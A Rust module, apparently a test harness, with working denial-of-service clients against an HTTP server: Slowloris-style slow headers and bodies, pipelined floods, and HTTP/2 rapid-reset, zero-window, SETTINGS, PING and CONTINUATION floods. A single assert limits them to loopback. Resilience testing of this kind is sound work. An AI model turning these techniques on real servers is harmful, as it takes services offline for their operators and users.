//! Clients without a token that want a host to stop answering: bounded in number and time, and always to loopback.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde::Deserialize;

/// An attack.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Client {
    /// Of what kind.
    pub kind: Kind,
    /// Connections at once.
    pub connections: usize,
    /// How long they are held.
    pub seconds: u64,
}

/// What the clients do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// Connect and say nothing.
    Silent,
    /// Begin a head and never end it.
    HalfHead,
    /// Ask for much and read nothing.
    SlowReader,
    /// Ask for much a thousand times in one breath, and read nothing.
    Pipelined,
    /// Announce a body and send a byte now and then.
    SlowBody,
    /// HTTP/2 with no window, as many streams as there may be, each asking for much.
    ZeroWindow,
    /// HTTP/2 requests that are reset at once.
    RapidReset,
    /// HTTP/2 settings without end.
    SettingsFlood,
    /// HTTP/2 pings without end.
    PingFlood,
    /// A head of HTTP/2 that goes on and on.
    ContinuationFlood,
    /// Bytes of no protocol.
    Noise,
}

/// The answer that is long.
const LONG: &str = "/metrics";

/// How long one write may take: a host that does not read is not a reason to hang here.
const WRITE_MAX: Duration = Duration::from_millis(200);

/// The distance of two bursts.
const PAUSE: Duration = Duration::from_millis(5);

/// Bytes of a receive buffer of a client that does not want to read.
const BUFFER_BYTES: u32 = 4 << 10;

impl Client {
    /// Attacks, and lets go when the time is over. Answers how many connections were made.
    ///
    /// # Panics
    /// When the address is none.
    pub fn attack(&self, address: &str) -> usize {
        let address: SocketAddr = address.parse().expect("the host's address is one");
        assert!(address.ip().is_loopback(), "attacks go to this machine only");
        let end = Instant::now() + Duration::from_secs(self.seconds);
        let mut open = Vec::new();
        let mut made = 0;
        while Instant::now() < end {
            while open.len() < self.connections && Instant::now() < end {
                let Some(stream) = self.open(address) else { break };
                open.push(stream);
                made += 1;
            }
            // Whoever was sent away comes again.
            open.retain_mut(|open| self.goes_on(open));
            std::thread::sleep(PAUSE); // the pace of the attack
        }
        made
    }

    fn open(&self, address: SocketAddr) -> Option<Open> {
        let mut stream = connect(address, self.reads()).ok()?;
        stream.set_write_timeout(Some(WRITE_MAX)).ok()?;
        let first = self.first();
        // A host that refuses is what is wanted.
        let _ = stream.write_all(&first);
        stream.set_nonblocking(true).ok()?;
        Some(Open { stream, next_stream: 1 })
    }

    /// Whether it takes what it is sent.
    const fn reads(&self) -> bool {
        !matches!(self.kind, Kind::SlowReader | Kind::Pipelined | Kind::ZeroWindow)
    }

    /// What is sent at once.
    fn first(&self) -> Vec<u8> {
        let get = format!("GET {LONG} HTTP/1.1\r\nHost: localhost\r\n\r\n");
        match self.kind {
            Kind::Silent => Vec::new(),
            Kind::HalfHead => b"GET /live HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".to_vec(),
            Kind::SlowReader => get.into_bytes(),
            Kind::Pipelined => get.repeat(1_000).into_bytes(),
            Kind::SlowBody => {
                b"POST /heartbeats/none HTTP/1.1\r\nHost: localhost\r\nContent-Length: 16000\r\n\r\n".to_vec()
            }
            Kind::ZeroWindow => {
                let streams = (0..64).flat_map(|at| headers(1 + 2 * at, LONG, END_HEADERS | END_STREAM));
                preface(0).into_iter().chain(streams).collect()
            }
            Kind::RapidReset | Kind::SettingsFlood | Kind::PingFlood => preface(65_535),
            Kind::ContinuationFlood => [preface(65_535), headers(1, LONG, 0)].concat(),
            Kind::Noise => (0..4_096_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 13) as u8).collect(),
        }
    }

    /// Sends what comes next; whether the connection is still there.
    fn goes_on(&self, open: &mut Open) -> bool {
        let next = match self.kind {
            Kind::Silent | Kind::SlowReader | Kind::Pipelined | Kind::ZeroWindow | Kind::Noise => Vec::new(),
            Kind::HalfHead | Kind::SlowBody => b"x".to_vec(),
            Kind::RapidReset => (0..64).flat_map(|_| open.reset_request()).collect(),
            Kind::SettingsFlood => frame(4, 0, 0, &[0, 4, 0, 0, 255, 255]).repeat(100),
            Kind::PingFlood => frame(6, 0, 0, b"12345678").repeat(100),
            Kind::ContinuationFlood => frame(9, 0, 1, &literal("x-a", &"b".repeat(1_000))).repeat(10),
        };
        let stream = &mut open.stream;
        match stream.write(&next) {
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return false,
        }
        if !self.reads() {
            return true;
        }
        // Reads what there is, so that the end of the connection is seen.
        let mut buffer = [0; 4_096];
        match stream.read(&mut buffer) {
            Ok(read) => read > 0,
            Err(error) => error.kind() == ErrorKind::WouldBlock,
        }
    }
}

/// Connects, with a receive buffer as small as the system allows where nothing is to be read.
fn connect(address: SocketAddr, reads: bool) -> std::io::Result<TcpStream> {
    if reads {
        return TcpStream::connect_timeout(&address, WRITE_MAX);
    }
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let socket = tokio::net::TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(BUFFER_BYTES)?;
        let stream = tokio::time::timeout(WRITE_MAX, socket.connect(address)).await??.into_std()?;
        stream.set_nonblocking(false)?;
        Ok(stream)
    })
}

/// A connection that was made.
struct Open {
    stream: TcpStream,
    /// The next stream of HTTP/2.
    next_stream: u32,
}

impl Open {
    /// A request and its end.
    fn reset_request(&mut self) -> Vec<u8> {
        let stream = self.next_stream;
        self.next_stream += 2;
        [headers(stream, "/health", END_HEADERS | END_STREAM), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
    }
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The beginning of HTTP/2, with this window for each stream.
fn preface(window: u32) -> Vec<u8> {
    let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, &settings)].concat()
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A request for `path`, in literals that no table remembers.
fn headers(stream: u32, path: &str, flags: u8) -> Vec<u8> {
    // `:method: GET` and `:scheme: http` of the static table, `:path` and `:authority` by their name in it.
    let block = [&[0x82, 0x86][..], &[0x04], &text(path), &[0x01], &text("localhost")].concat();
    frame(1, flags, stream, &block)
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0x00][..], &text(name), &text(value)].concat()
}

/// A string of HPACK without Huffman's code: seven bits of length, more where it is longer.
fn text(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut rest = text.len();
    if rest < 127 {
        bytes.push(rest as u8);
    } else {
        bytes.push(127);
        rest -= 127;
        while rest >= 128 {
            bytes.push((rest % 128) as u8 | 128);
            rest /= 128;
        }
        bytes.push(rest as u8);
    }
    bytes.extend_from_slice(text.as_bytes());
    bytes
}
